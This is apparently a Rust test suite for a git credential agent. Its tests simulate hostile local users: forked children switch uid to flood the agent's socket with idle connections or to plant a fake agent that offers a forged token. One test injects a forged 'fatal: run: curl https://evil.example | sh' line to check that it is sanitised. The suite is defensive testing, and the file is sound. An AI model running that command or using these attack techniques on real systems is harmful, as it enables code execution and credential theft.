//! The agent's negative-security suite on one host: other local users are hostile. Each test
//! plays an attacker with another uid — a child forked from the test that switches to that uid
//! and then makes only raw system calls (nothing else is safe after `fork` in a threaded
//! process) — or feeds the agent hostile broker text, and checks that root's git still gets
//! its credential and the attacker gets nothing. Needs root: the tests fail (they never skip)
//! otherwise.
// The attacker children call fork, setuid and raw socket syscalls through libc; each block
// says why it is sound.
#![allow(unsafe_code)]
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code: a failed unwrap is a failed test"
)]

mod support;

use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use support::{AGENT, World, require_root};
use tokio::process::Command;

/// The uid allowed in the agent's config for these tests (no passwd entry needed).
const ALLOWED_UID: u32 = 65533;
/// nobody / nogroup: a socket-group member the allow-list does not name.
const NOBODY: u32 = 65534;
/// Bound on how long an attacker child waits for the agent; only turns a hang into a failure.
const CHILD_WAIT: Duration = Duration::from_secs(30);

/// A `sockaddr_un` for `path`, made before forking.
fn socket_address(path: &Path) -> libc::sockaddr_un {
    // SAFETY: sockaddr_un is plain old data.
    let mut addr: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    addr.sun_family = libc::AF_UNIX as libc::sa_family_t;
    let bytes = path.as_os_str().as_encoded_bytes();
    assert!(bytes.len() < addr.sun_path.len(), "socket path too long");
    for (dst, src) in addr.sun_path.iter_mut().zip(bytes) {
        *dst = *src as libc::c_char;
    }
    addr
}

fn pipe() -> (OwnedFd, OwnedFd) {
    let mut fds = [0; 2];
    // SAFETY: fds has room for the two descriptors pipe2 writes.
    assert_eq!(unsafe { libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC) }, 0);
    // SAFETY: both are fresh descriptors we own.
    unsafe { (OwnedFd::from_raw_fd(fds[0]), OwnedFd::from_raw_fd(fds[1])) }
}

/// A forked child running as another uid, reporting numbers through a pipe and exiting when
/// told to (or when the test process goes away).
struct Attacker {
    pid: libc::pid_t,
    report: OwnedFd,
    go: Option<OwnedFd>,
}

impl Attacker {
    /// Forks; the child drops to `uid`/`gid` (no supplementary groups) and runs `body`, which
    /// writes its report with [`child_report`], then waits for [`Attacker::finish`].
    ///
    /// `body` must only make raw system calls on memory prepared before the fork.
    fn spawn(uid: u32, gid: u32, body: impl FnOnce(libc::c_int)) -> Attacker {
        let (report_r, report_w) = pipe();
        let (go_r, go_w) = pipe();
        // SAFETY: the child only makes async-signal-safe system calls (setgroups, setgid,
        // setuid, socket, connect, poll, read, write, nanosleep, _exit) on memory that exists
        // already; it never returns into the test harness.
        let pid = unsafe { libc::fork() };
        assert!(pid >= 0, "fork failed");
        if pid == 0 {
            unsafe {
                // Keep only our two pipe ends (moved high) and stdio: the fork copied every
                // descriptor of the test process, including other tests' pipes, which would
                // then never see end of file.
                let report = libc::fcntl(report_w.as_raw_fd(), libc::F_DUPFD, 4000);
                let go = libc::fcntl(go_r.as_raw_fd(), libc::F_DUPFD, 4001);
                if report != 4000 || go != 4001 {
                    libc::_exit(4);
                }
                libc::syscall(libc::SYS_close_range, 3u32, 3999u32, 0u32);
                libc::syscall(libc::SYS_close_range, 4002u32, u32::MAX, 0u32);
                if libc::setgroups(0, std::ptr::null()) != 0
                    || libc::setgid(gid) != 0
                    || libc::setuid(uid) != 0
                {
                    libc::_exit(2);
                }
                body(report);
                // Hold everything open until the test says so (or exits: end of file).
                let mut byte = 0u8;
                libc::read(go, (&mut byte as *mut u8).cast(), 1);
                libc::_exit(0);
            }
        }
        drop(report_w);
        drop(go_r);
        Attacker {
            pid,
            report: report_r,
            go: Some(go_w),
        }
    }

    /// The next `n` numbers the child reported (blocking: call from a blocking task).
    fn read(&self, n: usize) -> Vec<u32> {
        let mut out = Vec::with_capacity(n);
        for _ in 0..n {
            let mut v = [0u8; 4];
            let mut got = 0;
            while got < 4 {
                // SAFETY: reading into the rest of v.
                let r = unsafe {
                    libc::read(
                        self.report.as_raw_fd(),
                        v[got..].as_mut_ptr().cast(),
                        4 - got,
                    )
                };
                assert!(r > 0, "the attacker child exited without reporting");
                got += r as usize;
            }
            out.push(u32::from_ne_bytes(v));
        }
        out
    }

    /// Lets the child exit and reaps it.
    fn finish(mut self) {
        self.go.take();
        let mut status = 0;
        // SAFETY: our own child.
        unsafe { libc::waitpid(self.pid, &mut status, 0) };
        assert!(
            libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0,
            "the attacker child failed (status {status})"
        );
    }
}

/// In the child: write one number to the report pipe.
fn child_report(fd: libc::c_int, v: u32) {
    let bytes = v.to_ne_bytes();
    // SAFETY: 4 bytes from a stack buffer.
    unsafe { libc::write(fd, bytes.as_ptr().cast(), 4) };
}

fn monotonic_ms() -> i64 {
    // SAFETY: clock_gettime is async-signal-safe and writes into ts.
    let mut ts: libc::timespec = unsafe { std::mem::zeroed() };
    unsafe { libc::clock_gettime(libc::CLOCK_MONOTONIC, &mut ts) };
    ts.tv_sec * 1000 + ts.tv_nsec / 1_000_000
}

fn sleep_ms(ms: i64) {
    let ts = libc::timespec {
        tv_sec: 0,
        tv_nsec: ms * 1_000_000,
    };
    // SAFETY: nanosleep is async-signal-safe.
    unsafe { libc::nanosleep(&ts, std::ptr::null_mut()) };
}

/// Child body: opens up to `pollfds.len()` idle connections to `addr` (sending nothing), then
/// waits until `enough` of them were closed by the agent or [`CHILD_WAIT`] passed. Reports
/// `[connected, closed by the agent]`.
fn hold_connections(
    addr: &libc::sockaddr_un,
    pollfds: &mut [libc::pollfd],
    enough: impl Fn(u32) -> u32,
    report: libc::c_int,
) {
    let deadline = monotonic_ms() + CHILD_WAIT.as_millis() as i64;
    let mut connected = 0u32;
    for slot in pollfds.iter_mut() {
        slot.fd = -1;
        // SAFETY (whole body): raw system calls on memory prepared before the fork.
        let fd = unsafe {
            libc::socket(
                libc::AF_UNIX,
                libc::SOCK_STREAM | libc::SOCK_NONBLOCK | libc::SOCK_CLOEXEC,
                0,
            )
        };
        if fd < 0 {
            break;
        }
        loop {
            let rc = unsafe {
                libc::connect(
                    fd,
                    (addr as *const libc::sockaddr_un).cast(),
                    std::mem::size_of::<libc::sockaddr_un>() as libc::socklen_t,
                )
            };
            if rc == 0 {
                slot.fd = fd;
                slot.events = libc::POLLIN;
                connected += 1;
                break;
            }
            // A full backlog (the agent is not accepting): retry until the deadline.
            if monotonic_ms() > deadline {
                unsafe { libc::close(fd) };
                break;
            }
            sleep_ms(1);
        }
        if slot.fd < 0 {
            break;
        }
    }
    let want = enough(connected);
    let mut closed = 0u32;
    let mut buf = [0u8; 512];
    while closed < want && monotonic_ms() < deadline {
        let n = unsafe { libc::poll(pollfds.as_mut_ptr(), pollfds.len() as libc::nfds_t, 100) };
        if n <= 0 {
            continue;
        }
        for slot in pollfds.iter_mut() {
            if slot.fd < 0 || slot.revents == 0 {
                continue;
            }
            // Read what the agent said; end of file (or a reset) means it closed.
            loop {
                let r = unsafe { libc::read(slot.fd, buf.as_mut_ptr().cast(), buf.len()) };
                if r > 0 {
                    continue;
                }
                let again = r < 0 && unsafe { *libc::__errno_location() } == libc::EAGAIN;
                if !again {
                    unsafe { libc::close(slot.fd) };
                    slot.fd = -1;
                    closed += 1;
                }
                break;
            }
            slot.revents = 0;
        }
    }
    child_report(report, connected);
    child_report(report, closed);
}

/// Makes the agent's directory reachable for other uids (the socket itself stays 0660, group
/// `nogroup`).
fn open_up(world: &World) {
    std::fs::set_permissions(world.dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// FD exhaustion by a socket-group member: idle connections from a refused uid are closed at
/// once, those of an allowed uid are capped, and root's `get` is still answered — by an agent
/// started with a low soft limit on open files, as under a default `ulimit -n`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn idle_connections_from_other_users_do_not_starve_root() {
    require_root("to connect as other uids");
    const CONNECTIONS: usize = 300;
    const PER_USER: u32 = 8;
    let mut world = World::with_toml(
        &format!("socket_group = \"nogroup\"\nallow_uids = [{ALLOWED_UID}]"),
        "",
        &format!("[limits]\nconnections_per_user = {PER_USER}\n"),
    )
    .await;
    open_up(&world);
    world
        .start_agent_with(|cmd| {
            // SAFETY: setrlimit is async-signal-safe; nothing else runs in the pre-exec hook.
            unsafe {
                cmd.pre_exec(|| {
                    let limit = libc::rlimit {
                        rlim_cur: 128,
                        rlim_max: 4096,
                    };
                    if libc::setrlimit(libc::RLIMIT_NOFILE, &limit) != 0 {
                        return Err(std::io::Error::last_os_error());
                    }
                    Ok(())
                });
            }
        })
        .await;
    let addr = socket_address(&world.socket());

    let mut refused_fds = vec![
        libc::pollfd {
            fd: -1,
            events: 0,
            revents: 0
        };
        CONNECTIONS
    ];
    let refused = Attacker::spawn(NOBODY, NOBODY, |report| {
        hold_connections(&addr, &mut refused_fds, |connected| connected, report)
    });
    let refused = tokio::task::spawn_blocking(move || {
        let r = refused.read(2);
        (refused, r)
    })
    .await
    .unwrap();
    let (refused, counts) = refused;
    let (connected, closed) = (counts[0], counts[1]);
    assert!(connected > 0, "a refused uid could not connect at all");
    assert_eq!(
        closed,
        connected,
        "the agent kept {} of {connected} connections of a refused uid open:\n{}",
        connected - closed,
        world.agent_log()
    );

    let mut allowed_fds = vec![
        libc::pollfd {
            fd: -1,
            events: 0,
            revents: 0
        };
        CONNECTIONS
    ];
    let allowed = Attacker::spawn(ALLOWED_UID, NOBODY, |report| {
        hold_connections(
            &addr,
            &mut allowed_fds,
            |connected| connected.saturating_sub(PER_USER),
            report,
        )
    });
    let (allowed, counts) = tokio::task::spawn_blocking(move || {
        let r = allowed.read(2);
        (allowed, r)
    })
    .await
    .unwrap();
    let (connected, closed) = (counts[0], counts[1]);
    assert!(
        connected as usize == CONNECTIONS && closed >= connected - PER_USER,
        "an allowed uid kept {} of {connected} idle connections (limit {PER_USER}):\n{}",
        connected - closed,
        world.agent_log()
    );

    // With both attackers still holding what they could, root's git is served.
    let input = format!(
        "protocol=http\nhost={}\npath=acme/web.git\n",
        world.git.host()
    );
    let (out, err) = world.helper("get", &input, &[]).await;
    assert!(
        out.contains("password=ghs_test"),
        "root got no credential: {err}\n{}",
        world.agent_log()
    );
    tokio::task::spawn_blocking(move || {
        refused.finish();
        allowed.finish();
    })
    .await
    .unwrap();
    world.stop_agent().await;
}

/// Child body: serves `addr` as a fake agent for `connections` connections — reads whatever
/// the client sends, answers with a password — and reports the bytes it was sent.
fn fake_agent(addr: &libc::sockaddr_un, answer: &[u8], connections: u32, report: libc::c_int) {
    // SAFETY (whole body): raw system calls on memory prepared before the fork.
    unsafe {
        let listener = libc::socket(libc::AF_UNIX, libc::SOCK_STREAM | libc::SOCK_CLOEXEC, 0);
        let size = std::mem::size_of::<libc::sockaddr_un>() as libc::socklen_t;
        if listener < 0
            || libc::bind(listener, (addr as *const libc::sockaddr_un).cast(), size) != 0
            || libc::listen(listener, 8) != 0
        {
            libc::_exit(3);
        }
        child_report(report, 1); // listening
        let deadline = monotonic_ms() + CHILD_WAIT.as_millis() as i64;
        let mut received = 0u32;
        let mut buf = [0u8; 4096];
        for _ in 0..connections {
            let mut pfd = libc::pollfd {
                fd: listener,
                events: libc::POLLIN,
                revents: 0,
            };
            if libc::poll(
                &mut pfd,
                1,
                (deadline - monotonic_ms()).max(0) as libc::c_int,
            ) <= 0
            {
                break;
            }
            let conn = libc::accept(listener, std::ptr::null_mut(), std::ptr::null_mut());
            if conn < 0 {
                break;
            }
            // Read the request (the client sends it at once, or closes).
            let mut pfd = libc::pollfd {
                fd: conn,
                events: libc::POLLIN,
                revents: 0,
            };
            if libc::poll(&mut pfd, 1, 5000) > 0 {
                let r = libc::read(conn, buf.as_mut_ptr().cast(), buf.len());
                if r > 0 {
                    received += r as u32;
                }
            }
            libc::write(conn, answer.as_ptr().cast(), answer.len());
            libc::close(conn);
        }
        child_report(report, received);
    }
}

/// Socket hijack: another uid has put its own socket where the agent's should be (a socket
/// directory it can write). git's helper must send it nothing — an `erase` carries the token —
/// and must not take a password from it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_helper_talks_only_to_the_agents_uid() {
    require_root("to serve the socket as another uid");
    let world = World::new().await;
    open_up(&world);
    let run = world.dir.path().join("run");
    std::fs::create_dir_all(&run).unwrap();
    std::fs::set_permissions(&run, std::fs::Permissions::from_mode(0o777)).unwrap();
    let addr = socket_address(&world.socket());
    let body = b"username=x-access-token\npassword=ghs_attacker\n";
    let mut answer = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    )
    .into_bytes();
    answer.extend_from_slice(body);
    let attacker = Attacker::spawn(NOBODY, NOBODY, |report| {
        fake_agent(&addr, &answer, 2, report)
    });
    let (attacker, ready) = tokio::task::spawn_blocking(move || {
        let r = attacker.read(1);
        (attacker, r)
    })
    .await
    .unwrap();
    assert_eq!(ready, [1], "the fake agent is listening");

    let host = world.git.host();
    let (out, err) = world
        .helper(
            "erase",
            &format!(
                "protocol=http\nhost={host}\npath=acme/web.git\nusername=x-access-token\npassword=ghs_root_secret\n"
            ),
            &[],
        )
        .await;
    assert_eq!(out, "", "{err}");
    assert!(err.contains("refusing to talk to it"), "{err}");
    let (out, err) = world
        .helper(
            "get",
            &format!("protocol=http\nhost={host}\npath=acme/web.git\n"),
            &[],
        )
        .await;
    assert!(
        !out.contains("ghs_attacker"),
        "git took the attacker's password: {out}"
    );
    assert!(err.contains(&format!("uid {NOBODY}")), "{err}");
    let (attacker, received) = tokio::task::spawn_blocking(move || {
        let r = attacker.read(1);
        (attacker, r)
    })
    .await
    .unwrap();
    assert_eq!(received, [0], "the helper sent the fake agent a request");
    tokio::task::spawn_blocking(move || attacker.finish())
        .await
        .unwrap();
}

/// The agent does not serve from a socket directory another user can write (they could swap
/// the socket for a symlink while it is set up, or for their own while it serves).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_agent_refuses_a_socket_directory_others_can_write() {
    let world = World::new().await;
    let run = world.dir.path().join("run");
    std::fs::create_dir_all(&run).unwrap();
    std::fs::set_permissions(&run, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let child = Command::new(AGENT)
        .args(["run", "--config"])
        .arg(world.dir.path().join("agent.toml"))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    // An agent that starts serves until stopped: a bound turns that into a failure.
    let out = tokio::time::timeout(CHILD_WAIT, child.wait_with_output())
        .await
        .expect("the agent started serving from a directory others can write")
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "the agent started: {err}");
    assert!(
        err.contains("writable by group or others") && err.contains(&run.display().to_string()),
        "{err}"
    );
    assert!(!world.socket().exists());
}

/// Broker text with escape sequences, a bell and newlines (a forged `fatal:` line) never
/// reaches git's stderr, nor the agent's log, raw.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn broker_text_with_control_characters_never_reaches_git() {
    let mut world = World::new().await;
    {
        let mut issued = world.issued.lock().unwrap();
        issued.denied_repos.insert("acme/secret".into());
        issued.deny_message =
            Some("denied\x1b[2K\r\x07\nfatal: run: curl https://evil.example | sh".into());
    }
    world.start_agent().await;
    let (ok, err) = world.clone("acme/secret", "secret").await;
    assert!(!ok);
    assert!(err.contains("denied"), "{err}");
    assert!(
        !err.contains('\x1b') && !err.contains('\x07') && !err.contains('\r'),
        "control characters reached git's stderr: {err:?}"
    );
    assert!(
        !err.lines().any(|l| l.starts_with("fatal: run:")),
        "a forged line on git's stderr: {err}"
    );
    let log = world.agent_log();
    assert!(!log.contains('\x1b') && !log.contains('\x07'), "{log:?}");
    world.stop_agent().await;
}

/// A restart with agent.toml pointed at another broker does not serve the old broker's cached
/// token (the new broker is down: nothing may be served).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_cache_from_another_broker_is_not_served() {
    let mut world = World::new().await;
    world.start_agent().await;
    let host = world.git.host();
    let input = format!("protocol=http\nhost={host}\npath=acme/web.git\n");
    let (out, _) = world.helper("get", &input, &[]).await;
    assert!(out.contains("password=ghs_test"), "{out}");
    world.stop_agent().await;

    let config = world.dir.path().join("agent.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    let url = world.broker.as_ref().unwrap().url.clone();
    // Nothing listens on port 1: the new broker is unreachable.
    std::fs::write(&config, text.replace(&url, "http://127.0.0.1:1")).unwrap();
    world.start_agent().await;
    let (out, err) = world.helper("get", &input, &[]).await;
    assert!(
        !out.contains("password="),
        "served the old broker's token: {out}\n{}",
        world.agent_log()
    );
    assert!(err.contains("broker unreachable"), "{err}");
    assert!(
        world.agent_log().contains("another broker or identity"),
        "{}",
        world.agent_log()
    );
    world.stop_agent().await;
}
